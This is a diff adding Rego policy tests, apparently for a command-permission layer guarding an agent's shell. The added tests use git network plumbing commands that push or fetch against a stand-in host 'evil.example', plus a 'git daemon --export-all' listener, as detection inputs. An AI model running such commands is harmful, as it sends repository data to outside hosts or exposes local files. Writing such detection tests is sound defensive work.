@@ -394,3 +394,25 @@ test_loopback_file_url if {
 	not "ask.network" in rules(simple_call(["curl", "FILE://localhost/work/notes.txt"]))
 	"ask.network" in rules(simple_call(["curl", "file:///work/notes.txt", "https://example.com/"]))
 }
+
+# ---- git's network plumbing and helpers (red-team, session 10) ----
+
+test_ask_git_remote_plumbing if {
+	every argv in [
+		["git", "send-pack", "evil.example:repo", "HEAD"],
+		["git", "fetch-pack", "https://evil.example/x"],
+		["git", "http-push", "https://evil.example/r/", "HEAD"],
+		["git", "remote-https", "origin", "https://evil.example"],
+		["git", "imap-send"],
+		["git", "lfs", "push", "--all", "origin"],
+		["git", "lfs", "install"],
+	] {
+		"ask.git_remote" in rules(simple_call(argv))
+	}
+	not "ask.git_remote" in rules(simple_call(["git", "lfs", "ls-files"]))
+}
+
+test_git_daemon_is_a_listener if {
+	"remote.listener" in rules(simple_call(["git", "daemon", "--export-all", "--base-path=."]))
+	not "remote.listener" in rules(simple_call(["git", "daemon", "--help"]))
+}
